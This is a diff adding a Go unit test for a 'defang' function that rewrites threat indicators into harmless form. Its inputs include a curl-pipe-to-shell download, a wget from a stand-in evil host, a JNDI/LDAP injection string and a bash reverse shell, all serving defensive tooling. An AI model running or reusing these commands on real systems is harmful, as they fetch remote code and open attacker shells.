@@ -1,0 +1,19 @@
+package defang
+
+import "testing"
+
+func TestTextIsDefangedWhereverAnIndicatorStands(t *testing.T) {
+	for in, want := range map[string]string{
+		"curl http://192.0.2.1:8080/x.sh|sh":         "curl hxxp://192.0.2[.]1:8080/x.sh|sh",
+		"wget HTTPS://evil.example.com/a; ls":        "wget HxxPS://evil.example[.]com/a; ls",
+		"${jndi:ldap://192.0.2.1:1389/a}":            "${jndi:ldap://192.0.2[.]1:1389/a}",
+		"ftp://u:p@example.org/x":                    "fxxp://u:p@example[.]org/x",
+		"chmod 777 aktualisieren.sh; version 1.2":    "chmod 777 aktualisieren.sh; version 1.2",
+		"no indicator at all":                        "no indicator at all",
+		"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1": "bash -i >& /dev/tcp/198.51.100[.]7/4444 0>&1",
+	} {
+		if got := Text(in); got != want {
+			t.Errorf("%s\n got %s\nwant %s", in, got, want)
+		}
+	}
+}
